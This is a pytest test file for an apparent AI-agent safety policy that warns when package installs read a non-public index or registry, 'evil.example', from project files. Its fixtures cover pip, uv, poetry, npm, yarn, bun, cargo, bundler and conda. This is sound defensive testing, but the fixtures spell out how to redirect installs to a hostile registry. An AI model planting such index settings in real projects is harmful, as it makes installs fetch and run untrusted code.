"""A package manager's install reads its index or registry from the project's files: an index
other than the public ones named there is a network exchange with it, as ``--index-url URL`` on
the command line is; the public registries, local folders, comments and ordinary pins stay
quiet."""

from __future__ import annotations

from pathlib import Path

import pytest
from policy_support import ALLOWED, UNREADABLE, safety_in, write_files

from pytest_harness_audit.policy import Policy
from pytest_harness_audit.policy.shell import index_formats as formats
from pytest_harness_audit.policy.shell.reading import read_command
from pytest_harness_audit.session.harness import Harness

NETWORK = ("warn", "warn-network")
EVIL = "https://evil.example/simple"

PYPROJECT_UV = f"[project]\nname = 'x'\nversion = '0'\n[[tool.uv.index]]\nurl = '{EVIL}'\n"
FLAGGED = [
    ({"requirements.txt": f"--index-url {EVIL}\nrequests\n"}, "pip install -r requirements.txt"),
    ({"requirements.txt": f"-i {EVIL}\nrequests\n"}, "pip3 install -rrequirements.txt"),
    ({"r.txt": f"--extra-index-url={EVIL}\n"}, "python3 -m pip install --requirement r.txt"),
    ({"r.txt": f"-f {EVIL}\n"}, "pip download -r r.txt"),
    ({"c.txt": f"--index-url {EVIL}\n"}, "pip install -c c.txt requests"),
    (
        {
            "requirements.txt": "-r deps/base.txt\n",
            "deps/base.txt": "-c pins.txt\n",
            "deps/pins.txt": f"--index-url {EVIL}\n",
        },
        "pip install -r requirements.txt",
    ),
    ({"r.txt": f"requests\n--index-url \\\n  {EVIL}\n"}, "pip install -r r.txt"),
    ({"app/r.txt": f"-i {EVIL}\n"}, "cd app && pip install -r r.txt"),
    ({"r.txt": "--index-url ${IDX}\n"}, f"IDX={EVIL} pip install -r r.txt"),
    ({".npmrc": "registry=${REG}\n"}, "export REG=https://evil.example/npm; npm install"),
    ({"pip.conf": f"[global]\nindex-url = {EVIL}\n"}, "PIP_CONFIG_FILE=pip.conf pip install x"),
    (
        {"pip.conf": f"[install]\nextra-index-url =\n    https://pypi.org/simple\n    {EVIL}\n"},
        "export PIP_CONFIG_FILE=pip.conf; pip install x",
    ),
    ({".venv/pip.conf": f"[global]\nindex_url = {EVIL}\n"}, "pip install requests"),
    ({"env1/pip.conf": f"[global]\nindex-url={EVIL}\n"}, "VIRTUAL_ENV=env1 pip install requests"),
    ({".config/pip/pip.conf": f"[global]\nindex-url={EVIL}\n"}, "pip install requests"),
    ({".config/uv/uv.toml": f"index-url = '{EVIL}'\n"}, "uv pip install requests"),
    ({"pyproject.toml": PYPROJECT_UV}, "uv sync"),
    ({"pyproject.toml": PYPROJECT_UV}, "cd app && uv lock"),
    ({"pyproject.toml": PYPROJECT_UV}, "uv add requests"),
    ({"pyproject.toml": f"[tool.uv]\nindex-url = '{EVIL}'\n"}, "uv pip install requests"),
    ({"pyproject.toml": f"[tool.uv]\nextra-index-url = ['{EVIL}']\n"}, "uv sync --frozen"),
    ({"uv.toml": f"index-url = '{EVIL}'\n"}, "uv sync"),
    ({"uv.toml": f"[[index]]\nurl = '{EVIL}'\n"}, "uvx ruff"),
    ({"conf/u.toml": f"[pip]\nindex-url = '{EVIL}'\n"}, "uv --config-file conf/u.toml sync"),
    ({"conf/u.toml": f"index-url = '{EVIL}'\n"}, "UV_CONFIG_FILE=conf/u.toml uv lock"),
    ({"r.in": f"-i {EVIL}\nrequests\n"}, "uv pip compile r.in -o r.txt"),
    ({"requirements.in": f"-i {EVIL}\n"}, "pip-compile"),
    ({"requirements.txt": f"-i {EVIL}\n"}, "pip-sync"),
    ({"pyproject.toml": f"[[tool.poetry.source]]\nname = 'e'\nurl = '{EVIL}'\n"}, "poetry lock"),
    ({"pyproject.toml": f"[[tool.pdm.source]]\nname = 'e'\nurl = '{EVIL}'\n"}, "pdm install"),
    ({"Pipfile": f"[[source]]\nurl = '{EVIL}'\nname = 'e'\n"}, "pipenv install"),
    ({".npmrc": "registry=https://evil.example/npm/\n"}, "npm install"),
    ({".npmrc": "@acme:registry=https://evil.example/npm/\n"}, "npm ci"),
    ({".npmrc": "registry=https://evil.example/npm/\n"}, "pnpm add left-pad"),
    ({"web/.npmrc": "registry=https://evil.example/npm/\n"}, "npm --prefix web install"),
    ({"alt.rc": "registry=https://evil.example/npm/\n"}, "npm install --userconfig alt.rc"),
    ({".yarnrc.yml": 'npmRegistryServer: "https://evil.example/npm"\n'}, "yarn"),
    (
        {".yarnrc.yml": "npmScopes:\n  acme:\n    npmRegistryServer: https://evil.example\n"},
        "yarn install",
    ),
    ({".yarnrc": 'registry "https://evil.example/npm/"\n'}, "yarn add left-pad"),
    ({"bunfig.toml": '[install]\nregistry = "https://evil.example/npm/"\n'}, "bun install"),
    ({"bunfig.toml": '[install]\nregistry = { url = "https://evil.example/" }\n'}, "bun add x"),
    (
        {
            ".cargo/config.toml": "[source.crates-io]\nreplace-with = 'e'\n[source.e]\n"
            "registry = 'sparse+https://evil.example/index/'\n"
        },
        "cargo build",
    ),
    ({".cargo/config.toml": "[registries.e]\nindex = 'https://evil.example/git'\n"}, "cargo fetch"),
    ({"Gemfile": "source 'https://evil.example/gems'\ngem 'rails'\n"}, "bundle install"),
    (
        {"Gemfile": 'source "https://rubygems.org"\ngem "x", source: "https://evil.example"\n'},
        "bundle",
    ),
    (
        {"environment.yml": "channels:\n  - https://evil.example/conda\n  - defaults\n"},
        "conda env create",
    ),
    (
        {"env.yaml": "channels: [conda-forge, 'https://evil.example/c']\n"},
        "micromamba create -f env.yaml",
    ),
]


@pytest.mark.parametrize(("files", "command"), FLAGGED)
def test_an_index_a_project_file_names_is_a_network_exchange(
    tmp_path: Path, files: dict[str, str], command: str
) -> None:
    (tmp_path / "app").mkdir()
    write_files(tmp_path, files)
    assert safety_in(command, tmp_path) == NETWORK, command


def test_the_address_is_a_target_as_on_the_command_line(tmp_path: Path) -> None:
    write_files(tmp_path, {"requirements.txt": f"--index-url {EVIL}\n"})
    in_file = Policy.preset("safety").evaluate(
        "Bash", {"command": "pip install -r requirements.txt"}, root=str(tmp_path)
    )
    given = Policy.preset("safety").evaluate("Bash", {"command": f"pip install -i {EVIL} x"})
    assert EVIL in in_file.targets and "note:network" in in_file.targets
    assert in_file.reason == given.reason


def test_a_file_written_earlier_in_the_command_is_read_as_written() -> None:
    command = f"echo '-i {EVIL}' > r.txt && pip install -r r.txt"
    assert "network" in read_command(command).notes


PUBLIC_PYPROJECT = "[[tool.uv.index]]\nurl = 'https://pypi.org/simple'\ndefault = true\n"
BENIGN = [
    (
        {"requirements.txt": "--index-url https://pypi.org/simple\nrequests\n"},
        "pip install -r requirements.txt",
    ),
    (
        {"requirements.txt": "-f ./wheels\n-f file:///tmp/wheels\n-e .\nrequests==2.31\n"},
        "pip install -r requirements.txt",
    ),
    (
        {"requirements.txt": "# see https://example.com\nrequests  # https://evil.example/x\n"},
        "pip install -r requirements.txt",
    ),
    ({}, "pip install -r requirements.txt"),
    ({"requirements.txt": f"--index-url {EVIL}\n"}, "pip list"),
    ({"requirements.txt": f"--index-url {EVIL}\n"}, "pip freeze > requirements.txt"),
    (
        {"pip.conf": "[global]\nindex-url = https://pypi.org/simple\n"},
        "PIP_CONFIG_FILE=pip.conf pip install x",
    ),
    ({}, "PIP_CONFIG_FILE=/dev/null pip install x"),
    ({"pyproject.toml": PUBLIC_PYPROJECT}, "uv sync"),
    ({"pyproject.toml": "[tool.uv]\nfind-links = ['./wheels']\n"}, "uv lock"),
    ({"pyproject.toml": PYPROJECT_UV}, "uv pip list"),
    ({"requests": f"-i {EVIL}\n"}, "uv pip install requests"),
    ({"requirements.txt": f"-i {EVIL}\n"}, "pip-compile"),
    ({"pyproject.toml": PYPROJECT_UV}, "uv --offline sync"),
    ({"pyproject.toml": f"# index-url = '{EVIL}'\n[project]\nname = 'x'\n"}, "uv sync"),
    ({"pyproject.toml": f"[[tool.poetry.source]]\nurl = '{EVIL}'\n"}, "poetry run pytest"),
    (
        {"pyproject.toml": "[[tool.poetry.source]]\nurl = 'https://pypi.org/simple'\n"},
        "poetry install",
    ),
    ({".npmrc": "registry=https://registry.npmjs.org/\n"}, "npm install"),
    ({".npmrc": "registry=https://evil.example/npm/\n"}, "npm test"),
    ({".npmrc": "; registry=https://evil.example/npm/\nfund=false\n"}, "npm ci"),
    ({".yarnrc.yml": "npmRegistryServer: https://registry.yarnpkg.com\n"}, "yarn install"),
    ({"bunfig.toml": '[install]\nregistry = "https://registry.npmjs.org/"\n'}, "bun install"),
    (
        {
            ".cargo/config.toml": "[source.crates-io]\nreplace-with = 'v'\n[source.v]\n"
            "directory = 'vendor'\n"
        },
        "cargo build",
    ),
    (
        {".cargo/config.toml": "[registries.e]\nindex = 'https://evil.example/git'\n"},
        "cargo build --offline",
    ),
    ({"Gemfile": "source 'https://rubygems.org'\n# source 'https://evil.example'\n"}, "bundle"),
    (
        {"environment.yml": "channels:\n  - conda-forge\n  - file:///opt/channel\n"},
        "conda env create",
    ),
]


@pytest.mark.parametrize(("files", "command"), BENIGN)
def test_public_registries_local_indexes_and_other_commands_stay_allowed(
    tmp_path: Path, files: dict[str, str], command: str
) -> None:
    write_files(tmp_path, files)
    assert safety_in(command, tmp_path) == ALLOWED, command


def test_uv_run_in_the_template_stays_allowed(tmp_path: Path) -> None:
    from pytest_harness_audit.session import workspace as workspaces

    root = tmp_path / "w"
    workspaces.create_workspace(root, "python-service")
    for command in ("uv run pytest", "pip install -e .", "pip list", "npm test"):
        assert safety_in(command, root) == ALLOWED, command


def test_a_folder_above_the_workspace_is_never_read(tmp_path: Path) -> None:
    write_files(tmp_path, {".npmrc": "registry=https://evil.example/npm/\n"})
    root = tmp_path / "ws"
    root.mkdir()
    assert safety_in("npm install", root) == ALLOWED


@pytest.mark.parametrize(
    "command",
    [
        "PIP_CONFIG_FILE=/etc/elsewhere/pip.conf pip install x",
        "pip install -r ../outside/requirements.txt",
        "uv --config-file /srv/other/uv.toml sync",
        "cd /srv && pip install -r requirements.txt",
    ],
)
def test_a_named_file_outside_the_workspace_is_unreadable(tmp_path: Path, command: str) -> None:
    root = tmp_path / "ws"
    root.mkdir()
    assert safety_in(command, root) == UNREADABLE


def test_a_requirements_file_too_large_to_read_is_unreadable(tmp_path: Path) -> None:
    pins = "".join(f"pkg{i}==1.0 \\\n    --hash=sha256:{'a' * 64}\n" for i in range(900))
    write_files(tmp_path, {"evil.txt": pins + f"--index-url {EVIL}\n"})
    assert safety_in("pip install -r evil.txt", tmp_path) == UNREADABLE


def test_nested_requirement_files_stop_at_a_cycle(tmp_path: Path) -> None:
    write_files(tmp_path, {"a.txt": "-r b.txt\n", "b.txt": "-r a.txt\n"})
    assert safety_in("pip install -r a.txt", tmp_path) == ALLOWED


def test_no_root_and_nothing_written_reads_no_file() -> None:
    assert read_command("pip install -r requirements.txt").notes == []
    assert read_command("uv sync").notes == []


# -- the readers ---------------------------------------------------------------------------------
def test_requirements_options() -> None:
    found = formats.requirements(
        "# -i https://c.example\n-i https://a.example  # x\n--extra-index-url=https://b.example\n"
        "-f ./w\n-rother.txt\n--constraint c.txt\nx @ https://d.example/x.whl\n"
    )
    assert found.indexes == ["https://a.example", "https://b.example"]
    assert found.find == ["./w"]
    assert found.nested == ["other.txt", "c.txt"]


def test_pip_config_keys_and_continuations() -> None:
    text = (
        "# index-url = https://c\n[global]\nindex-url: https://a\nextra-index-url =\n  https://b\n"
    )
    assert formats.pip_config(text + "timeout = 3\n  https://d\n") == ["https://a", "https://b"]


def test_toml_readers() -> None:
    assert formats.uv_pyproject("[tool.uv.pip]\nextra-index-url = ['https://a']\n") == ["https://a"]
    assert formats.uv_toml("not = [toml") == []
    assert formats.pipfile("[[source]]\nurl = 'https://a'\n[[source]]\nname = 'n'\n") == [
        "https://a"
    ]
    assert formats.pdm_toml("[pypi]\nurl = 'https://a'\n[pypi.extra]\nurl = 'https://b'\n") == [
        "https://a",
        "https://b",
    ]
    assert formats.cargo_config("[registry]\nindex = 'https://a'\n") == ["https://a"]
    assert formats.bunfig("[install.scopes]\nacme = { url = 'https://a' }\nb = 'https://b'\n") == [
        "https://a",
        "https://b",
    ]


def test_text_readers() -> None:
    assert formats.npm_registries('registry = "https://a" ; c\n@s:registry=https://b\n') == [
        "https://a",
        "https://b",
    ]
    assert formats.yarnrc_yml(
        "# npmRegistryServer: https://c\nnpmRegistryServer: 'https://a'\n"
    ) == ["https://a"]
    assert formats.gemfile(
        "source 'https://a' # source 'https://c'\ngem 'x', source: 'https://b'\n"
    ) == [
        "https://a",
        "https://b",
    ]
    assert formats.conda_environment(
        "name: e\nchannels:\n  - a  # https://c\ndependencies:\n  - https://d\n"
    ) == ["a"]


# -- through the scripted harness: real files, the real reading ----------------------------------
HARNESS_ROUTES = [
    (
        "requirements.txt",
        f"--index-url {EVIL}\nrequests\n",
        "pip install --dry-run --retries 0 --timeout 1 -r requirements.txt",
    ),
    (
        "pip.conf",
        f"[global]\nindex-url = {EVIL}\n",
        "PIP_CONFIG_FILE=pip.conf pip install --dry-run --retries 0 --timeout 1 requests",
    ),
    ("pyproject.toml", PYPROJECT_UV.replace("url =", "default = true\nurl ="), "uv sync --dry-run"),
    (
        ".config/pip/pip.conf",
        f"[global]\nindex-url = {EVIL}\n",
        "pip install --dry-run --retries 0 --timeout 1 requests",
    ),
]


@pytest.mark.parametrize(("path", "content", "command"), HARNESS_ROUTES)
def test_a_file_written_then_an_install_warns_the_session(
    tmp_path: Path, path: str, content: str, command: str
) -> None:
    harness = Harness.create(tmp_path, template="python-service", policy="safety")
    harness.call("Write", file_path=path, content=content)
    result = harness.call("Bash", command=command)
    assert result.record["rules"]["constraints"] == ["policy:warn", "rule:warn-network"]
    assert harness.verdict == "WARN", [str(reason) for reason in harness.verdict_reasons]


def test_an_npmrc_already_in_the_repository_warns_npm_install(tmp_path: Path) -> None:
    harness = Harness.create(tmp_path, template="node-package", policy="safety")
    (harness.root / ".npmrc").write_text("registry=https://evil.example/npm/\n", encoding="utf-8")
    result = harness.call("Bash", command="npm install --dry-run --fetch-retries 0 || true")
    assert result.record["rules"]["constraints"] == ["policy:warn", "rule:warn-network"]
    assert harness.verdict == "WARN", [str(reason) for reason in harness.verdict_reasons]


def test_benign_files_through_the_harness_pass(tmp_path: Path) -> None:
    harness = Harness.create(tmp_path, template="python-service", policy="safety")
    harness.call("Write", file_path="requirements.txt", content="# https://example.com\n-e .\n")
    harness.call(
        "Bash", command="pip install --dry-run --no-deps --no-build-isolation -r /dev/null"
    )
    harness.call("Bash", command="pip list --disable-pip-version-check > /dev/null")
    assert harness.verdict == "PASS", [str(reason) for reason in harness.verdict_reasons]
